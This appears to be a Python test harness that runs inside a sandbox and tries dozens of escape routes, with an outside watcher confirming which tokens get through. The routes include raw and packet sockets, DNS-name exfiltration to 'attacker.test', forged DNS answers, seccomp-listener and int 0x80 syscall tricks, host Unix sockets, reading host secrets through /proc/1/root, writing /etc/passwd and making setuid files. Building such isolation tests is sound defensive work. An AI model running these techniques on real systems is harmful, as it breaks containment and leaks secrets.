# SPDX-License-Identifier: AGPL-3.0-only
"""Runs inside a sandbox and tries to get out. Each attempt carries a token; whoever watches outside
says whether it came through. An attempt ends with a line of JSON: what the program itself saw, which
is only a hint, or "lacking" if this kernel cannot even try.

usage: attempts.py DENIED_ADDRESS PORT SECRET_FILE [ATTEMPT ...]
"""

import ctypes
import errno
import json
import mmap
import os
import socket
import struct
import subprocess
import sys
import threading
import time

DENIED, PORT, SECRET = sys.argv[1], int(sys.argv[2]), sys.argv[3]
DENIED6, LINK = "2606:2800:220:1::2", "eth0"
libc = ctypes.CDLL(None, use_errno=True)
MAPPED = "::ffff:" + DENIED
attempts = []


def attempt(number, name, alone=False):
    """`alone`: only if it is asked for by name."""
    def add(fn):
        attempts.append((number, name, fn, alone))
        return fn
    return add


class Lacking(Exception):
    pass


def call(number, *args):
    r = libc.syscall(number, *args)
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r


def make(*kind):
    try:
        s = socket.socket(*kind)
    except OSError as e:
        if e.errno in (errno.EPROTONOSUPPORT, errno.EAFNOSUPPORT, errno.ESOCKTNOSUPPORT):
            raise Lacking(f"no such socket on this kernel: {kind}") from e
        raise
    s.settimeout(0.5)
    return s


def tcp(s, address, token):
    s.connect((address, PORT))
    s.sendall(token)


# ---- (1) to (20): packets ----

@attempt(1, "tcp4")
def _(token):
    tcp(make(socket.AF_INET, socket.SOCK_STREAM), DENIED, token)


@attempt(1, "tcp-mapped")
def _(token):
    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), MAPPED, token)


@attempt(1, "tcp6")
def _(token):
    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), DENIED6, token)


def on_link(address):
    return (address, PORT, 0, socket.if_nametoindex(LINK))


@attempt(1, "tcp6-on-the-link")
def _(token):
    s = make(socket.AF_INET6, socket.SOCK_STREAM)
    s.connect(on_link("fe80::1"))
    s.sendall(token)


@attempt(2, "udp6-sendto")
def _(token):
    make(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (DENIED6, PORT))


@attempt(2, "udp6-on-the-link")
def _(token):
    make(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, on_link("fe80::1"))


@attempt(8, "ping6-socket")
def _(token):
    make(socket.AF_INET6, socket.SOCK_DGRAM, 58).sendto(b"\x80\0\0\0\0\1\0\1" + token, on_link("ff02::1"))


@attempt(9, "raw6-udp")
def _(token):
    make(socket.AF_INET6, socket.SOCK_RAW, 17).sendto(
        struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED6, 0))


@attempt(11, "ipv6-extension-header")
def _(token):
    s = make(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, 59, b"\x11\0\1\4\0\0\0\0")  # IPV6_DSTOPTS
    s.sendto(token, on_link("ff02::1"))


@attempt(19, "multicast6")
def _(token):
    s = make(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, 17, struct.pack("i", socket.if_nametoindex(LINK)))  # IPV6_MULTICAST_IF
    s.sendto(token, ("ff02::1", PORT))


@attempt(2, "udp-sendto")
def _(token):
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))


@attempt(2, "udp-connected")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((DENIED, PORT))
    s.send(token)


@attempt(2, "udp-sendmsg-mapped")
def _(token):
    make(socket.AF_INET6, socket.SOCK_DGRAM).sendmsg([token], [], 0, (MAPPED, PORT))


def sockaddr(family, address=None):
    return struct.pack("<H", family) + struct.pack(">H", PORT) + socket.inet_aton(address or DENIED) + b"\0" * 8


def raw_sendto(s, token, address):
    call(44, s.fileno(), token, len(token), 0, address, len(address))


@attempt(2, "udp-sendmmsg")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    address = ctypes.create_string_buffer(sockaddr(2), 16)
    data = ctypes.create_string_buffer(token, len(token))
    iov = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
    one = struct.pack("<QI4xQQQQI4xI4x", ctypes.addressof(address), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
    call(307, s.fileno(), ctypes.create_string_buffer(one * 2, 2 * len(one)), 2, 0)


@attempt(3, "udp-unspec-address")
def _(token):
    raw_sendto(make(socket.AF_INET, socket.SOCK_DGRAM), token, sockaddr(0))


@attempt(3, "udp6-socket-with-ipv4-address")
def _(token):
    raw_sendto(make(socket.AF_INET6, socket.SOCK_DGRAM), token, sockaddr(2))


@attempt(4, "tcp-fast-open")
def _(token):
    make(socket.AF_INET, socket.SOCK_STREAM).sendto(token, 0x20000000, (DENIED, PORT))


@attempt(4, "tcp-fast-open-connect")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
    s.connect((DENIED, PORT))
    s.sendall(token)


@attempt(5, "mptcp")
def _(token):
    tcp(make(socket.AF_INET, socket.SOCK_STREAM, 262), DENIED, token)


@attempt(6, "udplite")
def _(token):
    make(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(token, (DENIED, PORT))


@attempt(7, "sctp")
def _(token):
    tcp(make(socket.AF_INET, socket.SOCK_STREAM, 132), DENIED, token)


@attempt(8, "ping-socket")
def _(token):
    make(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\1\0\1" + token, (DENIED, 0))


@attempt(9, "raw-with-header")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_RAW, 255)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(token), 0, 0, 64, 17, 0, b"\0" * 4, socket.inet_aton(DENIED))
    s.sendto(head + struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED, 0))


@attempt(9, "raw-udp")
def _(token):
    make(socket.AF_INET, socket.SOCK_RAW, 17).sendto(struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED, 0))


@attempt(10, "packet-socket")
def _(token):
    s = make(socket.AF_PACKET, socket.SOCK_RAW, 0x0008)
    s.bind(("eth0", 0))
    s.send(b"\xff" * 6 + b"\2\xa6\0\0\0\2" + b"\x08\0" + token)


@attempt(10, "xdp-socket")
def _(token):
    make(44, socket.SOCK_RAW, 0)


@attempt(11, "ip-options")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(DENIED) + b"\0")
    s.sendto(token, (DENIED, PORT))


@attempt(11, "fragments")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 10, 0)
    s.sendto(token * 400, (DENIED, PORT))


@attempt(12, "tunnel-device")
def _(token):
    fd = os.open("/dev/net/tun", os.O_RDWR)
    call(16, fd, 0x400454CA, ctypes.create_string_buffer(b"tun9".ljust(16, b"\0") + struct.pack("<H", 1) + b"\0" * 22, 40))


def netlink(kind, body):
    s = make(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("<IHHII", 16 + len(body), kind, 5, 1, 0) + body)
    answer = s.recv(4096)
    code = struct.unpack("<i", answer[16:20])[0]
    if code < 0:
        raise OSError(-code, os.strerror(-code))


@attempt(12, "new-link-in-its-namespace")
def _(token):
    name = struct.pack("<HH", 9, 3) + b"dum0\0" + b"\0" * 3
    info = struct.pack("<HH", 4 + 12, 18) + struct.pack("<HH", 10, 1) + b"dummy\0" + b"\0" * 2
    netlink(16, struct.pack("<BxHiII", 0, 0, 0, 0, 0) + name + info)


@attempt(12, "turning-ipv6-on")
def _(token):
    """Both ways to an address on its link; one is enough."""
    body = struct.pack("<BBBBI", 10, 64, 0, 0, socket.if_nametoindex(LINK)) + struct.pack("<HH", 20, 2) \
        + socket.inet_pton(socket.AF_INET6, "fe80::2")
    try:
        netlink(20, body)  # RTM_NEWADDR
    except OSError:
        with open(f"/proc/sys/net/ipv6/conf/{LINK}/disable_ipv6", "w") as f:
            f.write("0")


@attempt(13, "other-source-address")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
    s.bind(("10.231.1.99", 0))
    s.sendto(token, (DENIED, PORT))


@attempt(14, "vsock")
def _(token):
    s = make(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.connect((2, PORT))
    s.sendall(token)


@attempt(15, "abstract-unix-socket")
def _(token):
    s = make(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0aegis-bypass")
    s.sendall(token)


@attempt(15, "unix-sockets-of-the-host")
def _(token):
    done = False
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
        s = make(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(path)
            s.sendall(token)
            done = True
        except OSError:
            pass
    if not done:
        raise PermissionError(errno.EACCES, "none is there")


@attempt(16, "inherited-descriptors")
def _(token):
    for fd in range(3, 256):
        try:
            kind = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if kind.startswith("socket:"):
            os.write(fd, token)
            return
    raise PermissionError(errno.EBADF, "no socket was inherited")


@attempt(17, "listen-outside")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("0.0.0.0", PORT))
    s.listen(1)
    c, _ = s.accept()
    c.sendall(token)


ALLOWED = ("93.184.216.9", 8080)  # by the manifest, until class 18 is tried
ALLOWED_THROUGHOUT = ("93.184.216.9", 8081)


def wait_until_denied(send, seconds=600):
    """Sends what is known outside as a sign of life until the kernel refuses it."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            send(b"flow-of-the-attempt")
        except PermissionError as e:
            return e
        except OSError:  # nobody listens there; the outside sees the packet all the same
            pass
        time.sleep(0.2)
    return None


@attempt(18, "flows-from-before-a-stricter-policy")
def _(token):
    """The outside forbids the port while both are open; the datagrams tell when that holds."""
    stream = make(socket.AF_INET, socket.SOCK_STREAM)
    stream.connect(ALLOWED)
    datagrams = make(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.connect(ALLOWED)
    denied = wait_until_denied(datagrams.send)
    for send in (datagrams.send, stream.sendall):
        try:
            send(token)  # a stream's fills a buffer; whether a packet leaves is for the watcher to say
        except OSError as e:
            denied = e
    time.sleep(1)
    raise denied or PermissionError(errno.EPERM, "never denied, and the watcher knows what came of it")


@attempt(19, "multicast")
def _(token):
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("224.0.0.251", PORT))


@attempt(19, "broadcast")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(token, ("255.255.255.255", PORT))


@attempt(20, "the-gateway-and-the-node")
def _(token):
    for address in ("10.231.0.1", "93.184.216.1", "10.231.1.1", "169.254.169.254"):
        s = make(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(token, (address, PORT))
        except OSError as e:
            last = e
    raise last


# ---- (21) to (27): names ----

def query(name, kind=1, server="10.231.0.1"):
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" \
        + struct.pack(">HH", kind, 1)
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, (server, 53))
    return s.recv(2048)


def expect_refused(answer):
    if answer[3] & 15 == 0:
        return
    raise PermissionError(errno.EPERM, f"rcode {answer[3] & 15}")


@attempt(21, "name-as-a-message")
def _(token):
    expect_refused(query(token + b".attacker.test"))


@attempt(21, "txt-of-a-permitted-zone")
def _(token):
    query(token + b".www.allowed.test", 16)


@attempt(21, "other-resolver")
def _(token):
    query(token + b".www.allowed.test", 1, DENIED)


@attempt(21, "name-over-tcp")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("10.231.0.1", 53))
    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + bytes([len(token)]) + token + b"\x08attacker\4test\0\0\1\0\1"
    s.sendall(struct.pack(">H", len(q)) + q)
    expect_refused(s.recv(2048)[2:])


@attempt(22, "dns-over-tls-port")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((DENIED, 853))
    s.sendall(token)


@attempt(23, "rebinding-to-the-inside")
def _(token):
    answer = query(b"inside.allowed.test")
    if struct.unpack(">H", answer[6:8])[0] == 0:
        raise PermissionError(errno.EPERM, "no address was given")
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("10.1.2.3", PORT))


@attempt(27, "name-that-only-ends-alike")
def _(token):
    expect_refused(query(token + b".notallowed.test"))


@attempt(24, "address-whose-time-is-over")
def _(token):
    answer = query(b"short.allowed.test")  # time to live 0; an address holds five seconds longer
    if struct.unpack(">H", answer[6:8])[0] == 0:
        raise Lacking("the name was not answered")
    time.sleep(8)
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("93.184.216.7", PORT))


@attempt(24, "answer-of-many-internal-addresses")
def _(token):
    answer = query(b"many.allowed.test")
    for n in range(1, 25):
        try:
            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (f"10.1.3.{n}", PORT))
        except OSError as e:
            last = e
    if struct.unpack(">H", answer[6:8])[0] == 0:
        raise PermissionError(errno.EPERM, "no address was given")
    raise last


@attempt(25, "another-name-at-a-permitted-address")
def _(token):
    query(b"www.allowed.test")
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"Host: denied.test\r\n" + token, ("93.184.216.8", PORT))


@attempt(26, "answers-of-its-own-making")
def _(token):
    """Says to itself, and to the gateway, that a permitted name is at the denied address."""
    name = b"\3www\7allowed\4test\0\0\1\0\1"
    record = b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 600, 4) + socket.inet_aton(DENIED)
    own = make(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(("127.0.0.1", 0))
    for number in range(0, 65536, 257):
        forged = struct.pack(">HHHHHH", number, 0x8180, 1, 1, 0, 0) + name + record
        for target in (own.getsockname(), ("10.231.0.1", 53)):
            try:
                make(socket.AF_INET, socket.SOCK_DGRAM).sendto(forged, target)
            except OSError:
                pass
    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))


# ---- (29) to (37): system calls ----

@attempt(29, "io_uring")
def _(token):
    call(425, 4, ctypes.create_string_buffer(120))


@attempt(30, "io_uring-register")
def _(token):
    call(427, 0, 0, 0, 0)


@attempt(31, "io_uring-with-registered-files")
def _(token):
    params = ctypes.create_string_buffer(120)
    ring = call(425, 4, params)
    call(427, ring, 2, (ctypes.c_int * 1)(0), 1)  # IORING_REGISTER_FILES


@attempt(33, "address-rewritten-by-a-second-thread")
def _(token):
    """Between a permitted address (its own loopback) and the denied one, while the kernel looks."""
    address = ctypes.create_string_buffer(sockaddr(2, "127.0.0.1"), 16)
    here, there = socket.inet_aton("127.0.0.1"), socket.inet_aton(DENIED)
    stop = []

    def rewrite():
        while not stop:
            for ip in (there, here):
                ctypes.memmove(ctypes.addressof(address) + 4, ip, 4)
    t = threading.Thread(target=rewrite)
    t.start()
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    refused = 0
    for _ in range(30000):
        try:
            raw_sendto(s, token, address)
        except OSError:
            refused += 1
    stop.append(1)
    t.join()
    raise PermissionError(errno.EPERM, f"{refused} of 30000 were refused")


def run_code(code):
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    fn = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    return fn()


def in_child(fn):
    pid = os.fork()
    if pid == 0:
        try:
            fn()
            os._exit(0)
        except BaseException:
            os._exit(9)
    _, status = os.waitpid(pid, 0)
    if status:
        raise PermissionError(errno.EPERM, f"child ended with {status:#x}")


@attempt(32, "int-0x80")
def _(token):
    def old():
        # getpid by the 32-bit gate: mov eax, 20; int 0x80; ret
        if run_code(b"\xb8\x14\0\0\0\xcd\x80\xc3") <= 0:
            raise OSError
    in_child(old)


@attempt(32, "x32-calls")
def _(token):
    in_child(lambda: call(0x40000000 | 39))


@attempt(34, "clone3-into-a-cgroup")
def _(token):
    call(435, ctypes.create_string_buffer(88), 88)


@attempt(35, "effect-of-a-call-that-kills")
def _(token):
    """mkdir by the 32-bit gate: the process dies, and the directory must not be there."""
    path = "/tmp/by-the-old-gate"

    def old():
        low = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
        low.write(path.encode() + b"\0")
        where = ctypes.addressof(ctypes.c_char.from_buffer(low))
        # mov eax, 39; mov ebx, path; mov ecx, 0755; int 0x80; ret
        run_code(b"\xb8\x27\0\0\0\xbb" + struct.pack("<I", where) + b"\xb9\xed\1\0\0\xcd\x80\xc3")
    try:
        in_child(old)
    except PermissionError as e:
        ended = e
    else:
        ended = None
    if os.path.isdir(path):
        return
    raise ended or PermissionError(errno.EPERM, "nothing was made")


@attempt(36, "own-filter-that-says-continue")
def _(token):
    """A listener of its own answers "go on" to a call that the sandbox's filter refuses."""
    code = b"".join(struct.pack("<HBBI", *one) for one in (
        (0x20, 0, 0, 0), (0x15, 0, 1, 41), (0x06, 0, 0, 0x7FC00000), (0x06, 0, 0, 0x7FFF0000)))
    instructions = ctypes.create_string_buffer(code, len(code))
    program = ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", 4, ctypes.addressof(instructions)), 16)
    result = []

    def asked():
        try:
            listener = call(317, 1, 8, program)  # SECCOMP_FILTER_FLAG_NEW_LISTENER
        except OSError as e:
            result.append(e)
            return
        threading.Thread(target=answer, args=(listener,), daemon=True).start()
        try:
            result.append(call(41, socket.AF_PACKET, socket.SOCK_RAW, 0))
        except OSError as e:
            result.append(e)

    def answer(listener):
        while True:
            notice = ctypes.create_string_buffer(80)
            if libc.ioctl(listener, ctypes.c_ulong(0xC0502100), notice) < 0:
                return
            reply = ctypes.create_string_buffer(notice.raw[:8] + struct.pack("<qiI", 0, 0, 1), 24)
            libc.ioctl(listener, ctypes.c_ulong(0xC0182101), reply)
    t = threading.Thread(target=asked, daemon=True)
    t.start()
    t.join(5)
    if not result or isinstance(result[0], OSError):
        raise result[0] if result else PermissionError(errno.EPERM, "no answer")


# Forbidden by the operator's policy, and there for everybody who has the runtime.
FORBIDDEN_PROGRAM, FORBIDDEN_FILE = "/usr/bin/wc", "/usr/lib/os-release"


def run(*command, **more):
    """Whether it ran is what its exit status says; a shell or a loader has one for what it could not run."""
    status = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=60,
                            **more).returncode
    if status not in (0, 1):
        raise PermissionError(errno.EACCES, f"exit status {status}")


def copy_of(path, token):
    copy = "/workspace/copy-" + token.decode()
    with open(path, "rb") as f, open(copy, "wb") as c:
        c.write(f.read())
    os.chmod(copy, 0o755)
    return copy


@attempt(37, "forbidden-program")
def _(token):
    run(FORBIDDEN_PROGRAM)


@attempt(37, "forbidden-program-by-links")
def _(token):
    link = "/workspace/program-" + token.decode()
    os.symlink("/proc/self/root" + FORBIDDEN_PROGRAM, link)
    run(link)


@attempt(37, "forbidden-program-by-a-shell")
def _(token):
    run("/bin/sh", "-c", "exec " + FORBIDDEN_PROGRAM)


@attempt(37, "forbidden-program-by-the-loader")
def _(token):
    run(next(p for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-x86-64.so.2") if os.path.exists(p)),
        FORBIDDEN_PROGRAM)


@attempt(37, "forbidden-program-by-a-copy")
def _(token):
    run(copy_of(FORBIDDEN_PROGRAM, token))


@attempt(37, "forbidden-program-from-memory")
def _(token):
    fd = call(319, b"x", 0)  # memfd_create
    with open(FORBIDDEN_PROGRAM, "rb") as f:
        os.write(fd, f.read())
    run(f"/proc/self/fd/{fd}", pass_fds=[fd])


@attempt(37, "forbidden-program-by-descriptor")
def _(token):
    fd = os.open(FORBIDDEN_PROGRAM, os.O_PATH)
    pid = os.fork()
    if pid == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for n in range(3):
            os.dup2(null, n)
        arguments = (ctypes.c_char_p * 2)(b"x", None)
        libc.syscall(322, fd, b"", arguments, (ctypes.c_char_p * 1)(None), 0x1000)  # execveat, AT_EMPTY_PATH
        os._exit(99)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status not in (0, 1):
        raise PermissionError(errno.EACCES, f"exit status {status}")


@attempt(38, "forbidden-file-of-the-runtime")
def _(token):
    with open(FORBIDDEN_FILE, "rb") as f:
        f.read(1)


@attempt(38, "forbidden-file-by-descriptor")
def _(token):
    fd = os.open(FORBIDDEN_FILE, os.O_PATH)
    with open(f"/proc/self/fd/{fd}", "rb") as f:
        f.read(1)


@attempt(38, "forbidden-file-by-mapping")
def _(token):
    fd = os.open("/proc/self/root" + FORBIDDEN_FILE, os.O_RDONLY)
    mmap.mmap(fd, 1, prot=mmap.PROT_READ).read(1)


# ---- (38): files of the host ----

def leak(path, token):
    text = open(path).read()
    print(json.dumps({"secret": text}))


@attempt(38, "secret-by-its-path")
def _(token):
    leak(SECRET, token)


@attempt(38, "secret-by-proc-root")
def _(token):
    leak("/proc/1/root" + SECRET, token)


@attempt(38, "secret-by-a-link")
def _(token):
    os.symlink(SECRET, "/workspace/link-" + token.decode())
    leak("/workspace/link-" + token.decode(), token)


@attempt(38, "secret-by-handle")
def _(token):
    fd = os.open("/workspace", os.O_RDONLY)
    call(304, fd, ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0)), 0)


@attempt(38, "writing-outside")
def _(token):
    for path in ("/usr/bin/x", "/etc/passwd", "/run/x", "/var/x"):
        try:
            with open(path, "ab") as f:
                f.write(token)
            return
        except OSError as e:
            last = e
    raise last


@attempt(38, "writing-a-file-of-the-host")
def _(token):
    with open(SECRET, "ab") as f:  # where anybody may make files, it becomes one of its own
        f.write(token)


@attempt(38, "set-user-id-file-for-a-user-of-the-host")
def _(token):
    os.chmod("/workspace", 0o777)  # what is looked at is whether another user of the host reaches it
    path = "/workspace/" + token.decode()
    with open(path, "w") as f:
        f.write("#!/bin/sh\n")
    os.chmod(path, 0o4755)


def set_id_file(make_it):
    """Whether a file of the workspace has a set-id bit afterwards, whatever the call said."""
    path = "/workspace/set-id"
    said = None
    try:
        make_it(path)
    except OSError as e:
        said = e
    try:
        if os.stat(path).st_mode & 0o6000:
            return
    except FileNotFoundError:
        pass
    finally:
        if os.path.lexists(path):
            (os.rmdir if os.path.isdir(path) else os.unlink)(path)
    raise said or PermissionError(errno.EPERM, "the bits are gone")


def touch(path):
    with open(path, "w"):
        pass


@attempt(38, "set-id-by-chmod")
def _(token):
    def by_all(path):
        touch(path)
        with open(path) as f:
            for way in (lambda: os.chmod(path, 0o4755), lambda: os.fchmod(f.fileno(), 0o2755),
                        lambda: call(268, -100, path.encode(), 0o6755, 0),
                        lambda: call(452, -100, path.encode(), 0o6755, 0)):
                try:
                    way()
                    return
                except OSError as e:
                    last = e
        raise last
    set_id_file(by_all)


@attempt(38, "set-id-at-birth")
def _(token):
    last = []

    def by_all(path):
        os.umask(0)
        how = ctypes.create_string_buffer(struct.pack("<QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0), 24)
        for way in (lambda: os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755), lambda: call(85, path.encode(), 0o2755),
                    lambda: os.mknod(path, 0o104755), lambda: call(437, -100, path.encode(), how, 24)):
            try:
                way()
                return
            except OSError as e:
                last.append(e)
        raise last[-1]
    set_id_file(by_all)


@attempt(38, "mount")
def _(token):
    call(165, b"none", b"/tmp", b"tmpfs", 0, 0)


@attempt(38, "new-namespaces")
def _(token):
    call(272, 0x10000000)


# ---- (39) to (43): identity ----

@attempt(39, "double-fork-and-setsid")
def _(token):
    def away():
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.1)
            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
    in_child(away)
    time.sleep(0.3)
    raise PermissionError(errno.EPERM, "whatever came of it, the watcher knows")


@attempt(39, "thread")
def _(token):
    errors = []

    def go():
        try:
            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
        except OSError as e:
            errors.append(e)
    t = threading.Thread(target=go)
    t.start()
    t.join()
    if errors:
        raise errors[0]


@attempt(40, "leaving-the-cgroup")
def _(token):
    for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
        try:
            with open(base + "/cgroup.procs", "w") as f:
                f.write("0")
            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
            return
        except OSError as e:
            last = e
    raise last


@attempt(41, "while-both-daemons-are-dead", alone=True)
def _(token):
    """The outside kills them at the first sign of life; the kernel must go on to deny."""
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    end = time.monotonic() + 600  # the outside ends it
    while time.monotonic() < end:
        try:
            s.sendto(b"alive-of-the-attempt", ALLOWED_THROUGHOUT)
            s.sendto(token, (DENIED, PORT))
        except OSError:
            pass
        time.sleep(0.1)


@attempt(42, "flood-then-a-message")
def _(token):
    s = make(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(20000):
        try:
            s.sendto(b"x", (DENIED, PORT))
        except OSError:
            pass
    s.sendto(token, (DENIED, PORT))


@attempt(43, "bpf")
def _(token):
    call(321, 0, ctypes.create_string_buffer(120), 120)


@attempt(43, "ptrace-of-init")
def _(token):
    call(101, 16, 1, 0, 0)


@attempt(43, "memory-of-a-neighbour")
def _(token):
    """Reads what stands in another process of the sandbox alone, by way of /proc."""
    memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    where = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    ready, wrote = os.pipe()
    pid = os.fork()
    if pid == 0:
        memory[:len(token)] = token
        os.write(wrote, b"x")
        time.sleep(60)
        os._exit(0)
    try:
        os.read(ready, 1)
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
            f.seek(where)
            if f.read(len(token)) != token:
                raise PermissionError(errno.EPERM, "it read something else")
    finally:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


@attempt(43, "perf_event_open")
def _(token):
    call(298, ctypes.create_string_buffer(120), 0, -1, -1, 0)


@attempt(43, "kernel-keyring-and-modules")
def _(token):
    call(175, b"", 0, b"")


def main():
    for n, (number, name, fn, alone) in enumerate(attempts):
        if name not in sys.argv[4:] and (sys.argv[4:] or alone):
            continue
        token = f"tok{n:03d}x{os.getpid()}".encode()
        line = {"class": number, "attempt": name, "token": token.decode()}
        print(json.dumps({"begin": name}), flush=True)
        try:
            fn(token)
            line["saw"] = "success"
        except Lacking as e:
            line["lacking"] = str(e)
        except (OSError, struct.error, ValueError) as e:
            line["saw"] = f"{type(e).__name__}: {e}"
        print(json.dumps(line), flush=True)


main()
